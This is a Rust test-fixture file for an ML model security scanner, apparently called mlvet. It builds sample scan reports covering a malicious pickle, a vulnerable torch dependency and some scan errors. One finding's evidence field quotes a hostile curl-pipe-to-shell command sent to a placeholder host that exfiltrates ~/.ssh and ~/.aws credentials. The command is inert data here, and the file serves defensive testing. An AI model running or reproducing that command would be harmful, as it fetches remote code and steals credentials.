//! Scan reports shared by the integration tests: each one models a realistic scan outcome.
#![allow(dead_code)] // Each test binary uses a different subset.

use mlvet_core::{
    AdvisoryRef, ArtifactReport, Confidence, DatabaseInfo, Finding, Location, PackageRef, RuleMeta,
    ScanError, ScanReport, Severity, SourceRef, Verdict,
};
use mlvet_report::{RunMeta, TerminalOptions};

pub static DANGEROUS_CALLABLE: RuleMeta = RuleMeta {
    id: "pickle-dangerous-callable",
    category: "pickle",
    summary: "The pickle calls a callable that can run code when loaded.",
    default_severity: Severity::Critical,
    verdict: Verdict::Malicious,
    docs: "",
};

pub static UNKNOWN_GLOBAL: RuleMeta = RuleMeta {
    id: "pickle-unknown-global",
    category: "pickle",
    summary: "The pickle imports a global that is on neither the allow nor the deny list.",
    default_severity: Severity::Medium,
    verdict: Verdict::Suspicious,
    docs: "",
};

pub static KNOWN_VULNERABILITY: RuleMeta = RuleMeta {
    id: "dependency-known-vulnerability",
    category: "dependency",
    summary: "A dependency version is affected by a published advisory.",
    default_severity: Severity::High,
    verdict: Verdict::Vulnerable,
    docs: "",
};

pub fn meta(fail_on: Option<Severity>) -> RunMeta {
    RunMeta {
        tool_version: "0.1.0".to_string(),
        inputs: vec!["models".to_string(), "requirements.txt".to_string()],
        fail_on,
        duration_ms: None,
    }
}

pub fn plain() -> TerminalOptions {
    TerminalOptions {
        color: false,
        verbose: false,
        quiet: false,
        width: Some(80),
    }
}

pub fn safe_artifact(path: &str) -> ArtifactReport {
    ArtifactReport::new(
        path.to_string(),
        "safetensors".to_string(),
        2048,
        true,
        vec![],
    )
}

/// A torch checkpoint, nested in a tar, whose pickle calls `os.system`.
pub fn malicious_finding() -> Finding {
    let location = Location::file("models/bundle.tar")
        .member("weights.zip")
        .member("archive/data.pkl")
        .with_opcode(7, 42);
    Finding::new(&DANGEROUS_CALLABLE, location, "Loading this file calls os.system, which runs a shell command.")
        .evidence("callable", "os.system")
        .evidence(
            "arguments",
            "('curl -fsSL https://payload.invalid/stage2.sh | sh -s -- --quiet --persist --exfiltrate ~/.ssh ~/.aws',)",
        )
        .remediation("Do not load this file. Delete it and obtain the model from a trusted source, preferably as safetensors.")
}

pub fn unknown_global_finding() -> Finding {
    let location = Location::file("models/bundle.tar")
        .member("weights.zip")
        .member("archive/data.pkl")
        .with_opcode(3, 18);
    Finding::new(
        &UNKNOWN_GLOBAL,
        location,
        "The pickle imports mymodule.Helper, which mlvet does not know.",
    )
    .confidence(Confidence::Medium)
    .evidence("global", "mymodule.Helper")
}

pub fn malicious_report() -> ScanReport {
    let bundle = ArtifactReport::new(
        "models/bundle.tar".to_string(),
        "tar".to_string(),
        1_572_864,
        true,
        vec![unknown_global_finding(), malicious_finding()],
    );
    let mut report = ScanReport {
        artifacts: vec![safe_artifact("models/encoder.safetensors"), bundle],
        errors: vec![],
        database: Some(DatabaseInfo {
            source: "pypa-advisory-database".to_string(),
            records: 4821,
            updated: Some("2025-06-01T00:00:00Z".to_string()),
            stale: false,
        }),
        warnings: vec![],
    };
    report.sort();
    report
}

/// `torch==1.13.0` pinned in requirements.txt, hit by a real advisory (PYSEC-2022-43015).
pub fn vulnerability_finding() -> Finding {
    let package = PackageRef {
        ecosystem: "PyPI".to_string(),
        name: "torch".to_string(),
        version: Some("1.13.0".to_string()),
        requirement: None,
        markers: Some("python_version >= \"3.8\"".to_string()),
        source: SourceRef {
            file: "requirements.txt".to_string(),
            line: Some(3),
        },
        ml: true,
    };
    let advisory = AdvisoryRef {
        id: "PYSEC-2022-43015".to_string(),
        aliases: vec!["CVE-2022-45907".to_string(), "GHSA-47fc-vmwq-366v".to_string()],
        summary: Some("torch.jit.annotations.parse_type_line can cause arbitrary code execution because eval is used unsafely.".to_string()),
        fixed: Some("1.13.1".to_string()),
        severity: Some(Severity::Critical),
        cvss_score: Some(9.8),
        cvss_vector: Some("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H".to_string()),
        published: Some("2022-11-26T02:15:00Z".to_string()),
        modified: Some("2023-05-04T03:49:48.383740Z".to_string()),
        affected_allowed: None,
    };
    Finding::new(&KNOWN_VULNERABILITY, Location::file("requirements.txt").with_line(3), "torch 1.13.0 is affected by PYSEC-2022-43015 (arbitrary code execution through eval in parse_type_line).")
        .severity(Severity::Critical)
        .package(package)
        .advisory(advisory)
        .remediation("Upgrade torch to 1.13.1 or later.")
}

pub fn vulnerability_report() -> ScanReport {
    let requirements = ArtifactReport::new(
        "requirements.txt".to_string(),
        "requirements".to_string(),
        212,
        true,
        vec![vulnerability_finding()],
    );
    ScanReport {
        artifacts: vec![requirements],
        errors: vec![],
        database: Some(DatabaseInfo {
            source: "pypa-advisory-database".to_string(),
            records: 4821,
            updated: Some("2025-06-01T00:00:00Z".to_string()),
            stale: false,
        }),
        warnings: vec![],
    }
}

/// Two unreadable paths, a partially inspected archive and no advisory database.
pub fn errors_report() -> ScanReport {
    let partial = ArtifactReport::new(
        "models/archive.7z".to_string(),
        "7z".to_string(),
        9000,
        false,
        vec![],
    );
    ScanReport {
        artifacts: vec![
            partial,
            safe_artifact("models/a.safetensors"),
            safe_artifact("models/b.safetensors"),
        ],
        errors: vec![
            ScanError {
                path: "models/vanished.pt".to_string(),
                message: "no such file or directory".to_string(),
            },
            ScanError {
                path: "models/locked.pt".to_string(),
                message: "permission denied (os error 13)".to_string(),
            },
        ],
        database: None,
        warnings: vec!["no advisory database: vulnerabilities NOT checked".to_string()],
    }
}

/// Everything at once, with every optional field set: used to check the docs and the schema
/// cover every field the JSON can contain.
pub fn full_report() -> ScanReport {
    let mut report = malicious_report();
    let mut vulnerable = vulnerability_report();
    report.artifacts.append(&mut vulnerable.artifacts);
    let mut unpinned = vulnerability_finding();
    if let Some(package) = unpinned.package.as_mut() {
        package.version = None;
        package.requirement = Some("torch>=1.12".to_string());
        package.source = SourceRef {
            file: "pyproject.toml".to_string(),
            line: Some(12),
        };
    }
    unpinned.message = "torch>=1.12 allows versions affected by PYSEC-2022-43015.".to_string();
    if let Some(advisory) = unpinned.advisory.as_mut() {
        advisory.affected_allowed = Some(">=1.12, <1.13.1".to_string());
    }
    unpinned.location = Location::file("pyproject.toml").with_line(12);
    report.artifacts.push(ArtifactReport::new(
        "pyproject.toml".to_string(),
        "pyproject".to_string(),
        800,
        true,
        vec![unpinned],
    ));
    report.errors = errors_report().errors;
    report.warnings = vec!["advisory database is older than 30 days".to_string()];
    report.sort();
    report
}

/// Compares rendered output with the expected text and shows both in full on mismatch.
#[track_caller]
pub fn assert_text(actual: &str, expected: &str) {
    if actual != expected {
        panic!(
            "rendered output differs\n--- expected ---\n{expected}\n--- actual ---\n{actual}\n--- end ---"
        );
    }
}

/// The example in `docs/json-report.md`: a malicious checkpoint, a safe model and a vulnerable pin.
pub fn doc_example() -> ScanReport {
    let mut report = malicious_report();
    report
        .artifacts
        .append(&mut vulnerability_report().artifacts);
    report.sort();
    report
}
